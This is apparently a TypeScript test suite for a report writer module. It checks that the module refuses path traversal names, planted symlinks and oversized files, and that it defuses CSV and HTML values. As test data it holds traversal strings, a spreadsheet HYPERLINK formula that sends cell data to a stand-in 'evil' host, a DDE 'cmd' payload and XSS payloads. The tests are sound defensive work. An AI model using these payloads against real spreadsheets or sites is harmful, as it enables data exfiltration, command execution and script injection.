import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { listReports, readReport, render, toCsv, writeReport } from './writer.js';

function folder(): { dir: string; outside: string } {
  const root = mkdtempSync(path.join(os.tmpdir(), 'reports-'));
  mkdirSync(path.join(root, 'reports'));
  mkdirSync(path.join(root, 'outside'));
  return { dir: path.join(root, 'reports'), outside: path.join(root, 'outside') };
}

test('names that leave the folder, hide, or say no format are refused with the reason', () => {
  const { dir } = folder();
  // classic traversal forms (OWASP Path Traversal), an absolute path, a NUL, a hidden file, a control character
  for (const name of [
    '../x.csv',
    '..\\x.csv',
    '/etc/passwd.csv',
    'a/../../x.md',
    '%2e%2e%2fx.csv',
    'x.csv\u0000.md',
    '.hidden.csv',
    'line\nbreak.md',
    '',
  ]) {
    assert.throws(
      () => writeReport({ dir, name, content: 'x', maxBytes: 100, maxTotalBytes: 1_000_000 }),
      /not a report file name|needs a file name|must end in/,
      JSON.stringify(name),
    );
  }
  assert.throws(
    () => writeReport({ dir, name: 'report.exe', content: 'x', maxBytes: 100, maxTotalBytes: 1_000_000 }),
    /must end in \.md, \.csv or \.html/,
  );
  assert.deepEqual(readdirSync(dir), []);
  const written = writeReport({
    dir,
    name: '质量周报 W48.md',
    content: '# 周报',
    maxBytes: 100,
    maxTotalBytes: 1_000_000,
  });
  assert.equal(readFileSync(written.file, 'utf8'), '# 周报');
});

test('never overwrites unless asked; a size cap; no half-written file is left behind', () => {
  const { dir } = folder();
  writeReport({ dir, name: 'a.csv', content: 'one', maxBytes: 100, maxTotalBytes: 1_000_000 });
  assert.throws(
    () => writeReport({ dir, name: 'a.csv', content: 'two', maxBytes: 100, maxTotalBytes: 1_000_000 }),
    (error: Error & { code?: string }) => error.code === 'ALREADY_EXISTS' && /already exists/.test(error.message),
  );
  assert.equal(readFileSync(path.join(dir, 'a.csv'), 'utf8'), 'one');
  writeReport({ dir, name: 'a.csv', content: 'two', maxBytes: 100, maxTotalBytes: 1_000_000, overwrite: true });
  assert.equal(readFileSync(path.join(dir, 'a.csv'), 'utf8'), 'two');
  assert.throws(
    () => writeReport({ dir, name: 'big.csv', content: 'x'.repeat(101), maxBytes: 100, maxTotalBytes: 1_000_000 }),
    /101 bytes, over the 100-byte cap/,
  );
  assert.deepEqual(readdirSync(dir).sort(), ['a.csv'], 'no temp files, no partial big.csv');
});

test('a link planted in the reports folder is neither written through nor served', () => {
  const { dir, outside } = folder();
  writeFileSync(path.join(outside, 'secret.csv'), 'secret');
  symlinkSync(path.join(outside, 'secret.csv'), path.join(dir, 'planted.csv'));
  assert.throws(
    () =>
      writeReport({ dir, name: 'planted.csv', content: 'x', maxBytes: 100, maxTotalBytes: 1_000_000, overwrite: true }),
    /not a plain file/,
  );
  assert.equal(readFileSync(path.join(outside, 'secret.csv'), 'utf8'), 'secret');
  assert.throws(() => readReport(dir, 'planted.csv'), /no report/);
  assert.deepEqual(
    listReports(dir).map((entry) => entry.name),
    [],
  );
});

test('CSV: RFC 4180 quoting, a BOM for spreadsheets, formula cells defused (OWASP CSV injection)', () => {
  const csv = toCsv(
    ['name', 'value'],
    [
      ['=HYPERLINK("http://evil/?x="&A1,"click")', -3.5],
      ["@SUM(1+1)*cmd|' /C calc'!A0", '+1'],
      ['line, with "quotes"\nand a break', null],
      ['-2', 7],
    ],
  );
  assert.ok(csv.startsWith('\uFEFFname,value\r\n'));
  const lines = csv.slice(1).split('\r\n');
  assert.equal(lines[1], `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3.5`);
  assert.equal(lines[2], `'@SUM(1+1)*cmd|' /C calc'!A0,'+1`);
  assert.equal(lines[3], '"line, with ""quotes""\nand a break",');
  assert.equal(lines[4], '-2,7', 'negative numbers stay numbers');
});

test('HTML is self-contained and escapes every value', () => {
  const html = render('html', {
    title: '<script>alert(1)</script>',
    columns: ['a'],
    rows: [['<img src=x onerror=alert(1)>']],
  });
  assert.ok(!/<script|<img|src=["']?http|<link/i.test(html), html);
  assert.match(html, /&lt;img src=x onerror=alert\(1\)&gt;/);
  assert.match(html, /<style>/);
});
